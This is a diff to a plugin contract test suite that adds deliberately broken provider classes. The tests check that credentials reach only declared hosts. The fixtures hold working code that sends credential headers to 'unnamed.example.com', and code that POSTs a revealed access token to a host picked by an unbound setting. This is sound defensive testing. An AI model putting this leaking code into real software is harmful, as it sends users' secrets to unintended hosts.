@@ -151,6 +151,42 @@ class TestSmall(ProviderContract):
 WORKING = "class Broken(Small): pass\n"
 
 BREAKS: dict[str, tuple[str, str]] = {
+    "a secret goes to a host that is not named": (
+        """
+class Broken(Small):
+    def inspect(self, credential):
+        connection = http.client.HTTPConnection("unnamed.example.com", 80, timeout=5)
+        try:
+            connection.request("GET", "/", headers=credential.headers())
+        except OSError:
+            return Inspection(validity=Validity.UNREACHABLE)
+""",
+        "test_secrets_reach_only_the_hosts_of_the_description",
+    ),
+    "an unbound setting decides where a secret goes": (
+        """
+from attrs import field
+from urllib.parse import urlsplit
+@frozen
+class Moving:
+    client_id: str = ""
+    check_url: str = field(default="https://example.com/check", metadata={"bound": False})
+Settings = Moving
+class Broken(Small):
+    settings = Moving
+    @hookimpl
+    def describe(self, profile, credential):
+        if credential is None:
+            hosts = (urlsplit(profile.settings.check_url).hostname,) if profile else ()
+            return evolve(super().describe(profile, credential), hosts=hosts)
+        connection = http.client.HTTPConnection(urlsplit(profile.settings.check_url).hostname, 80, timeout=5)
+        try:
+            connection.request("POST", "/", body=credential.access_token.reveal().encode())
+        except OSError:
+            return Inspection(validity=Validity.UNREACHABLE)
+""",
+        "test_settings_that_are_not_bound_move_no_secret",
+    ),
     "a hook is missing": (
         """
 class Broken:
